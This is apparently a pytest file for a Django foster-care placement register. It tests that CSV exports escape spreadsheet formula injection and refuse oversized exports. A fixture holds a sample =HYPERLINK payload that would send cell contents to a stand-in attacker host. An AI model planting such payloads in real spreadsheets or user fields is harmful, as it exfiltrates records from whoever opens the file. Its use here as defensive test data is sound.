"""Issue 13, resource limits: the spreadsheets the register writes. Every cell that a spreadsheet
would run as a formula (=, +, -, @, tab, carriage return first) is written as text
(register/exports.py); the follow-up queue's export is bounded, and refuses a longer list asking for
filters rather than cutting it short."""

import ast
import csv
import io
import pathlib

import pytest
from django.utils import timezone

from notifications import exports
from register.exports import csv_bytes, safe_cell
from register.roles import Role
from register.services.placements import placement_create
from tests.factories import CarerFactory, ChildFactory, make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
ROOT = pathlib.Path(__file__).resolve().parents[2]


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Keo household", "", None, -3, 4.5, True, "CH-02-000045", "a=b"])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_family_named_with_a_formula_is_exported_as_text():
    content = csv_bytes(["household_name", "days_overdue"], [{"household_name": HYPERLINK, "days_overdue": -3}])
    (row,) = rows_of(content)
    assert row == {"household_name": "'" + HYPERLINK, "days_overdue": "-3"}


def _placement_followed_by(worker, days_ago: int = 9):
    officer = make_user(Role.PLACEMENT_OFFICER)
    return placement_create(
        actor=officer,
        carer=CarerFactory(),
        children=[ChildFactory()],
        start_date=timezone.localdate() - timezone.timedelta(days=days_ago),
        care_type="long_term",
        social_worker=worker,
    )


def test_the_follow_up_export_neutralises_a_formula_on_the_api_and_the_page(client):
    worker = make_user(Role.SOCIAL_WORKER, username=HYPERLINK)
    placement = _placement_followed_by(worker)
    supervisor = make_user(Role.SUPERVISOR)
    client.force_login(supervisor)
    for response in (
        client.get("/api/v1/follow-up-queue/", {"format": "csv"}),
        client.get("/follow-up/export.csv"),
    ):
        assert response.status_code == 200, response.content[:300]
        rows = [r for r in rows_of(response.content) if r["placement"] == str(placement.pk)]
        assert rows and all(r["social_worker"] == "'" + HYPERLINK for r in rows)


def test_a_queue_longer_than_the_export_allows_is_refused_asking_for_filters(client, monkeypatch):
    monkeypatch.setattr(exports, "CSV_EXPORT_LIMIT", 1)
    worker = make_user(Role.SOCIAL_WORKER)
    _placement_followed_by(worker)
    _placement_followed_by(worker)  # two visits overdue: more than the export's 1
    supervisor = make_user(Role.SUPERVISOR)
    client.force_login(supervisor)

    response = client.get("/api/v1/follow-up-queue/", {"format": "csv"})
    assert response.status_code == 400 and response["Content-Type"] == "application/json"
    assert "filters" in response.json()["format"][0]

    page = client.get("/follow-up/export.csv", {"province": "02"}, follow=True)
    assert page.redirect_chain[0][0] == "/follow-up/?province=02"
    assert "narrow it with the filters" in page.content.decode()


def test_every_spreadsheet_the_code_writes_goes_through_register_exports():
    """csv writers and openpyxl workbooks appear only in register/exports.py and in the import
    template, which writes our own column names and example, no record."""
    allowed = {"register/exports.py", "register/services/imports/template.py"}
    writers = {"writer", "DictWriter", "Workbook"}
    found = set()
    for folder in ("register", "matching", "notifications", "web"):
        for path in (ROOT / folder).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in writers:
                    base = getattr(node.value, "id", "")
                    if base in ("csv", "openpyxl"):
                        found.add(str(path.relative_to(ROOT)))
    assert found <= allowed, f"write spreadsheets with register.exports (safe_cell): {found - allowed}"
